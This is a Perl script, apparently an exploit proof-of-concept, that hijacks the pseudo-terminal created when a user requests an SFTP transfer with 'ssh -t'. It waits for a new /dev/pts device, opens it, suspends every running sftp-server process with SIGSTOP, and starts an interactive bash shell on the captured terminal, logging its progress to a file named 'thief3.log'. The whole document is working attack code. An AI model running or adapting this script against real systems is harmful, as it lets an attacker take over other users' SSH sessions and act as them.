#!/usr/bin/perl
# Waits for a terminal to appear (a file transfer asked with ssh -t: the recorder leaves it
# as it is), opens it at leisure, stops the transfer server and runs a shell on the terminal.
use strict;
use warnings;
use Fcntl qw(O_RDWR O_NOCTTY);
use POSIX ();
open(my $log, '>>', '/tmp/thief3.log') or die;
select((select($log), $| = 1)[0]);
my $deadline = time + 60;
while (time < $deadline) {
  opendir(my $d, '/dev/pts') or die;
  my ($n) = grep { /^\d+$/ } readdir $d;
  if (defined $n) {
    sleep 1;
    sysopen(my $tty, "/dev/pts/$n", O_RDWR | O_NOCTTY) or do { print $log "open /dev/pts/$n: $!\n"; exit 1 };
    print $log "opened /dev/pts/$n\n";
    my @stopped;
    opendir(my $proc, '/proc') or die;
    for my $pid (grep { /^\d+$/ } readdir $proc) {
      open(my $c, '<', "/proc/$pid/cmdline") or next;
      my $cmd = do { local $/; <$c> } // '';
      if ($cmd =~ m{^/usr/lib/openssh/sftp-server\0?}) { kill 'STOP', $pid; push @stopped, $pid; print $log "stopped $pid\n"; }
    }
    my $child = fork;
    if (!$child) {
      POSIX::setsid();
      open(STDIN, '<&', $tty) or die;
      open(STDOUT, '>&', $tty) or die;
      open(STDERR, '>&', $tty) or die;
      exec '/bin/bash', '-i';
    }
    waitpid($child, 0);
    print $log "shell ended\n";
    kill 'CONT', @stopped;
    kill 'TERM', @stopped;
    exit 0;
  }
  select(undef, undef, undef, 0.05);
}
